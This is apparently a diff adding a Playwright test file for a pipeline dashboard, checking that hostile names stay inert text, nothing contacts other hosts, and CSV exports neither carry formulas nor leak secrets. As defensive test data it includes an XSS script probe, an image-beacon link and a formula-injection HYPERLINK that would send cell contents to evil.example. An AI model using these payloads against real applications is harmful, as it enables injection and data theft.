@@ -1,0 +1,187 @@
+"""Names that are Markdown, HTML, links and formulas, and secrets in the raw data: none of it does anything."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, WebSocket, expect
+
+from sandbox import Sandbox
+from tests.conftest import Dashboard, free_port, launch, settings_for
+
+OPENED = 8000  # its name has bold, italics, code, a link and a heading
+PAGES = {
+    "/": "pipelines need attention",
+    "/pipelines": "Pipelines",
+    "/history": "History",
+    "/run": "Run",
+    "/guide": "Guide",
+    f"/pipelines?pipeline={OPENED}": "**bold** _it_ `code` [click](https://",
+}
+RAW_SECRETS = ("must-stay-hidden", "hunter2", "db_password", "api_token", "webhook_url", "root:")
+FORMULA_STARTS = tuple("=+-@\t\r\0＝＋－＠")
+FOUND_IN_PAGE = """() => {
+  const main = document.querySelector('[data-testid=stMain]')
+  const made = [...main.querySelectorAll('b, em, i, del, script, iframe, object, .katex, p code, li code')]
+  const pictures = [...document.querySelectorAll('img, video, audio, link, source')]
+    .filter(one => /^(https?:)?\\/\\//.test(one.getAttribute('src') ?? one.getAttribute('href') ?? ''))
+    .filter(one => new URL(one.src || one.href).host !== location.host)
+  const links = [...document.querySelectorAll('[href]')].filter(one => /evil|^mailto:|^javascript:/i.test(one.href))
+  const icons = [...main.querySelectorAll('[data-testid=stIconMaterial]')].filter(one => one.innerText === 'delete')
+  return [...made, ...pictures, ...links, ...icons].map(one => one.outerHTML.slice(0, 200))
+}"""
+
+
+@pytest.fixture(scope="module")
+def hevo() -> Iterator[Sandbox]:
+    """An account whose every text is hostile, and whose raw data hold secrets."""
+    with Sandbox("hostile") as sandbox:
+        yield sandbox
+
+
+@pytest.fixture(scope="module")
+def dashboard(hevo: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
+    """A dashboard on it."""
+    dashboard = launch(tmp_path_factory.mktemp("hostile"), free_port(), **settings_for(hevo, 600))
+    yield dashboard
+    dashboard.stop()
+
+
+class Wire:
+    """What a tab asks for and what it is told, on the web and on its websocket."""
+
+    def __init__(self, page: Page, own: str) -> None:
+        self.foreign: list[str] = []
+        self.frames: list[bytes] = []
+        self._own = (own, own.replace("http", "ws"), "data:", "blob:")
+        page.on("request", lambda request: self._asked(request.url))
+        page.on("websocket", self._listen)
+
+    def _asked(self, url: str) -> None:
+        if not url.startswith(self._own):
+            self.foreign.append(url)
+
+    def _listen(self, socket: WebSocket) -> None:
+        self._asked(socket.url)
+        for event in ("framereceived", "framesent"):
+            socket.on(event, lambda frame: self.frames.append(frame if isinstance(frame, bytes) else frame.encode()))  # type: ignore[call-overload]
+
+    def leaks(self, page: Page) -> list[str]:
+        """The secrets that were sent to the tab, or stand in its document."""
+        sent = b"".join(self.frames).decode("utf-8", "replace") + page.content()
+        return [secret for secret in RAW_SECRETS if secret in sent]
+
+
+def visit(page: Page, address: str, text: str) -> None:
+    """Opens a page and waits until all of it is drawn."""
+    page.goto(address)
+    expect(page.get_by_role("heading", level=1)).to_contain_text(text)
+    page.wait_for_load_state("networkidle")
+    expect(page.locator("[data-test-script-state=notRunning]")).to_be_attached()
+
+
+def unfold(page: Page) -> None:
+    """Opens what is folded: the lists of names."""
+    for fold in page.locator("[data-testid=stExpander] summary").all():
+        if not fold.locator("xpath=..").get_attribute("open"):
+            fold.click()
+
+
+def no_sideways_scroll(page: Page) -> bool:
+    """True when neither the document nor Streamlit's own scrolling part is wider than the window."""
+    widths = "one => [one.scrollWidth, one.clientWidth]"
+    parts = [page.locator(part).evaluate(widths) for part in ("html", "[data-testid=stMain]")]
+    return all(wide <= room for wide, room in parts)
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_hostile_text_stays_text_and_no_other_host_hears_of_it(dashboard: Dashboard, page: Page, path: str) -> None:
+    wire = Wire(page, dashboard.url)
+    visit(page, dashboard.url + path, PAGES[path])
+    unfold(page)
+    assert page.evaluate(FOUND_IN_PAGE) == []
+    page.set_viewport_size({"width": 320, "height": 3000})
+    assert no_sideways_scroll(page)
+    assert wire.foreign == []
+    assert wire.frames
+    assert wire.leaks(page) == []
+
+
+def test_the_confirmation_and_the_outcome_of_a_run_show_the_name_as_it_is(dashboard: Dashboard, page: Page) -> None:
+    wire = Wire(page, dashboard.url)
+    visit(page, f"{dashboard.url}/pipelines?pipeline={OPENED}", PAGES[f"/pipelines?pipeline={OPENED}"])
+    page.get_by_role("button", name="Ask Hevo for its tables").click()
+    expect(page.get_by_text("without a name").or_(page.get_by_role("region")).first).to_be_attached()
+    page.get_by_role("button", name="Run now").click()
+    expect(page.get_by_role("dialog")).to_contain_text('Run "**bold** _it_ `code` [click](https://')
+    page.get_by_role("dialog").get_by_role("button", name="Run pipeline").click()
+    page.get_by_role("link", name="Run", exact=True).click()
+    expect(page.get_by_text("That does not mean it worked yet.").first).to_be_visible()
+    assert page.evaluate(FOUND_IN_PAGE) == []
+    assert wire.foreign == []
+    assert wire.leaks(page) == []
+
+
+def test_a_pipeline_without_a_number_can_be_chosen_in_the_table_without_harm(
+    dashboard: Dashboard, hevo: Sandbox, page: Page
+) -> None:
+    visit(page, f"{dashboard.url}/pipelines", "Pipelines")
+    page.get_by_role("textbox", name="Search").fill("heading")
+    expect(page.get_by_text("hidden by the filter")).to_be_visible()
+    order = [row["number"] for row in downloaded(page, "Download as CSV")]
+    place = order.index("")
+    box = page.get_by_test_id("stDataFrame").bounding_box()
+    assert box
+    page.mouse.click(box["x"] + 16, box["y"] + 35 * (place + 1) + 18)
+    expect(page.locator("[data-test-script-state=notRunning]")).to_be_attached()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Pipelines")
+    expect(page).to_have_url(f"{dashboard.url}/pipelines?search=heading")
+
+
+def downloaded(page: Page, button: str) -> list[dict[str, str]]:
+    """The rows of a CSV download."""
+    with page.expect_download() as download:
+        page.get_by_role("button", name=button).click()
+    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize(
+    ("path", "button"), [("/pipelines", "Download as CSV"), ("/history", "Download the history as CSV")]
+)
+def test_no_cell_of_a_download_is_a_formula_or_a_secret(
+    dashboard: Dashboard, hevo: Sandbox, page: Page, path: str, button: str
+) -> None:
+    visit(page, dashboard.url + path, PAGES[path])
+    rows = downloaded(page, button)
+    cells = [cell for row in rows for cell in row.values()]
+    assert [cell for cell in cells if cell.lstrip(" \n\u00a0\u200b\u2060\ufeff").startswith(FORMULA_STARTS)] == []
+    assert {"'=HYPERLINK(\"https://evil.example/?\"&A1, \"open\")", "'+1-2", "'@SUM(1+1)"} <= set(cells)
+    assert [secret for secret in RAW_SECRETS if secret in json.dumps(rows)] == []
+    assert {str(number) for number in hevo.fleet.ids if number} <= {row["number"] for row in rows}
+
+
+def test_a_hostile_link_is_only_text(dashboard: Dashboard, page: Page) -> None:
+    wire = Wire(page, dashboard.url)
+    visit(page, f"{dashboard.url}/pipelines?status=![x](https://evil.example/x.png)&search=<img src=x>", "Pipelines")
+    expect(page.get_by_text("it was left out: ![x](https://")).to_be_visible()
+    visit(page, f"{dashboard.url}/pipelines?pipeline=<script>alert(1)</script>", "This pipeline is not here")
+    assert page.evaluate(FOUND_IN_PAGE) == []
+    assert wire.foreign == []
+
+
+def test_the_raw_data_really_hold_what_these_tests_look_for(context: BrowserContext, hevo: Sandbox) -> None:
+    address = f"{hevo.base_url}/pipelines/{OPENED}"
+    answer = context.request.get(address, headers={"Authorization": _basic(hevo)}).text()
+    assert [secret for secret in RAW_SECRETS if secret not in answer] == []
+
+
+def _basic(hevo: Sandbox) -> str:
+    import base64
+
+    return "Basic " + base64.b64encode(f"{hevo.api_key}:{hevo.api_secret}".encode()).decode()
